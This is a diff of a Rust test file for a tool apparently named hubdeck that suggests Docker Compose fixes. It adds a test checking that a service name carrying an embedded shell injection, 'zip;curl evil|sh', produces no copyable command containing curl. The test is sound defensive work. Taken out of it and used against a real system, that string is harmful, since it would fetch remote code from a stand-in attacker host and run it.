@@ -2,6 +2,7 @@
 
 use std::sync::Arc;
 
+use hubdeck::explain::explain;
 use hubdeck::model::*;
 
 use super::{advice, evidence, sentence};
@@ -59,7 +60,29 @@ fn a_service_that_fails_says_what_has_no_container() {
     );
     assert_eq!(
         advice(&mut world, "hub/web")[0],
-        "create zip with `docker compose up -d zip`"
+        "create zip with `docker compose -p hub up -d zip`"
+    );
+}
+
+#[test]
+fn a_name_that_a_shell_would_run_gives_no_command_to_copy() {
+    let web = facts("hub/web")
+        .needs("zip;curl evil|sh:started")
+        .docker(DockerStatus::Unhealthy);
+    let mut world = World::of(vec![web]);
+    let snapshot = world.snapshot();
+    let service = snapshot
+        .service(&ServiceId::new("hub/web"))
+        .expect("a service");
+    let explanation = explain(service, &snapshot, &jiff::tz::TimeZone::UTC);
+    assert_eq!(
+        explanation.try_next[0],
+        "create zip;curl evil|sh from its Compose file"
+    );
+    let commands = explanation.commands;
+    assert!(
+        commands.iter().all(|each| !each.contains("curl")),
+        "{commands:?}"
     );
 }
 
